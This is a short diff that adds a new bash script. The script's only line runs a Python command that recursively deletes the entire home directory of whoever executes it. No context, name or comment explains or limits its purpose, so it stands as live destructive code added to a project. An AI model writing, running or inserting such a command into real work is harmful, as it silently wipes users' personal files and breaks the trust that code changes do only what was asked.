@@ -1,0 +1,2 @@
+#!/bin/bash
+python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~'))"
